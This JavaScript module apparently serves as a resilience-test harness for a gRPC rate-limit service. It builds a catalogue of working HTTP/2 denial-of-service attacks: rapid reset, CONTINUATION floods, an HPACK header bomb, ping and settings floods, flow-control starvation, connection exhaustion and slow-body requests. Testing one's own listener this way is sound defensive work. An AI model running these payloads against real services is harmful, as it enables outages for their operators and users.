import { h2 } from './frames.mjs';

const PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
const BLOCK = h2.fieldBlock(h2.callFields(PATH));
const HELLO = Buffer.concat([h2.PREFACE, h2.settings()]);
/** A window of the connection that no answers use up: one that closes would end a flood after some rounds. */
const CREDIT = h2.frame(h2.TYPE.windowUpdate, 0, 0, Buffer.from([0x40, 0, 0, 0]));
const WINDOW = h2.frame(h2.TYPE.windowUpdate, 0, 0, Buffer.from([0, 1, 0, 0]));

const field = (number, bytes) => Buffer.concat([Buffer.from([number * 8 + 2, bytes.length]), bytes]);
const text = (number, value) => field(number, Buffer.from(value));
/** A `RateLimitRequest` of one descriptor, with its prefix. */
const MESSAGE = (() => {
  const entry = field(1, Buffer.concat([text(1, 'user'), text(2, 'attacker')]));
  const message = Buffer.concat([text(1, 'outage'), field(2, entry)]);
  return Buffer.concat([Buffer.from([0, 0, 0, 0, message.length]), message]);
})();
/** Most of a message of 16 KiB, and the announcement of one of 4 MiB with as much. */
const MOST = Buffer.concat([Buffer.from([0, 0, 0, 63, 255]), Buffer.alloc(16_000)]);
const GIANT = Buffer.concat([Buffer.from([0, 0, 63, 255, 255]), Buffer.alloc(16_000)]);
/** A field of 4000 bytes for the table, and ten thousand references to it. */
const BOMB = Buffer.concat([
  ...[Buffer.from([0x40, 1]), Buffer.from('x'), Buffer.from([127, 0xa1, 0x1e]), Buffer.alloc(4000, 'y')],
  Buffer.alloc(10_000, 0x80 | 62),
]);

/** Numbers of streams of a round. */
const streams = (count, round) => Array.from({ length: count }, (_, i) => 1 + 2 * (round * count + i));
const begun = (stream) => h2.frame(h2.TYPE.headers, h2.END_HEADERS, stream, BLOCK);
const many = (count, one) => Buffer.concat(Array.from({ length: count }, () => one));

/** A way of writing: the preface first, then what each round says. */
function writing(count, bytesOf, { reads = true, rounds = Infinity, first = HELLO } = {}) {
  return (target) =>
    target.keep(
      count,
      async (line, round) => {
        if (round === 0) await line.write(first);
        return round < rounds && (await line.write(bytesOf(round)));
      },
      { reads },
    );
}

/** Streams of a round, each with what it sends. */
const each = (count, framesOf) => (round) => Buffer.concat(streams(count, round).flatMap(framesOf));

/** Frames that are the same in each round, on a stream that has begun. */
const repeated = (frame) => writing(4, (round) => (round === 0 ? begun(1) : many(2000, frame)), { reads: false });

/** Calls as fast as they are answered, as many at once as the service takes. */
const flood = (count) => (target) =>
  target.keep(count, async (line, round) => {
    if (round === 0) await line.write(Buffer.concat([HELLO, h2.frame(h2.TYPE.settings, h2.ACK, 0), CREDIT]));
    if (!(await line.write(each(100, (stream) => [h2.callFrames(stream, BLOCK, MESSAGE)])(round)))) return false;
    await line.answered(100 * (round + 1));
    return true;
  });

/** The ways of abusing a listener of gRPC. Each attacks a `Target` until its time has passed. */
export const ABUSES = {
  'plain flood': flood(1),
  'flood of ten': flood(10),
  'rapid reset': writing(
    4,
    each(100, (stream) => [begun(stream), h2.rstStream(stream)]),
  ),
  'reset after body': writing(
    4,
    each(100, (stream) => [h2.callFrames(stream, BLOCK, MESSAGE), h2.rstStream(stream)]),
  ),
  'made you reset': writing(
    4,
    each(100, (stream) => [
      h2.callFrames(stream, BLOCK, MESSAGE),
      h2.frame(h2.TYPE.windowUpdate, 0, stream, Buffer.from([0, 0, 0, 0])),
    ]),
  ),
  continuations: writing(4, (round) =>
    round === 0
      ? h2.frame(h2.TYPE.headers, 0, 1, BLOCK)
      : h2.frame(h2.TYPE.continuation, 0, 1, h2.fieldBlock([['x', 'y'.repeat(16_000)]])),
  ),
  'empty continuations': writing(4, (round) =>
    round === 0 ? h2.frame(h2.TYPE.headers, 0, 1, BLOCK) : many(2000, h2.frame(h2.TYPE.continuation, 0, 1)),
  ),
  'field bomb': writing(4, (round) =>
    h2.frame(h2.TYPE.headers, h2.END_HEADERS, 1 + 2 * round, Buffer.concat([BLOCK, BOMB])),
  ),
  pings: repeated(h2.ping()),
  settings: repeated(h2.settings([3, 100])),
  priorities: repeated(h2.frame(h2.TYPE.priority, 0, 9, Buffer.from([0, 0, 0, 0, 16]))),
  'empty data': repeated(h2.frame(h2.TYPE.data, 0, 1)),
  'slow streams': writing(
    50,
    each(100, (stream) => [begun(stream), h2.frame(h2.TYPE.data, 0, stream, MOST), WINDOW]),
    { rounds: 40 },
  ),
  'announced giants': writing(
    50,
    each(100, (stream) => [begun(stream), h2.frame(h2.TYPE.data, 0, stream, GIANT), WINDOW]),
    { rounds: 40 },
  ),
  'zero windows': writing(
    50,
    each(100, (stream) => [h2.callFrames(stream, BLOCK, MESSAGE)]),
    {
      first: Buffer.concat([h2.PREFACE, h2.settings([4, 0])]),
      rounds: 40,
    },
  ),
  unread: writing(
    50,
    each(100, (stream) => [h2.callFrames(stream, BLOCK, MESSAGE)]),
    { reads: false },
  ),
  goaway: writing(50, () => Buffer.concat([begun(1), h2.frame(h2.TYPE.goaway, 0, 0, Buffer.alloc(8))]), { rounds: 1 }),
  garbage: writing(20, () => Buffer.alloc(16_384, 0xa5), { rounds: 20 }),
  connections: (target) => target.keep(1500, async () => false),
  'slow bodies': (target) =>
    target.keep(
      1060,
      async (line) => {
        await line.write(
          'POST /v1/consume HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 60\r\n\r\n{',
        );
        return false;
      },
      { listener: 'http' },
    ),
};
